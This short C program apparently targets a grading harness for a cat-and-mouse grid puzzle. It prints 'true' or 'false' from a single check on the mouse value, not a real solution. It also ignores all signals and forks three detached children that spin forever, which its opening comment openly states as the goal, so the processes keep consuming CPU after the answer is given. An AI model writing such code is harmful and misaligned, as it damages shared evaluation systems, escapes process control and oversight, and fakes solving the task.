// A complete program that answers, and whose children then use CPU time for ever.
#include <signal.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
    int rows, columns, cat, mouse;
    scanf("%d%d%d%d", &rows, &columns, &cat, &mouse);
    for (int i = 1; i < 65; i++) signal(i, SIG_IGN);
    for (int i = 0; i < 3; i++) if (fork() == 0) { setsid(); for (;;) __asm__ volatile(""); }
    puts(mouse == 4 ? "true" : "false");
}
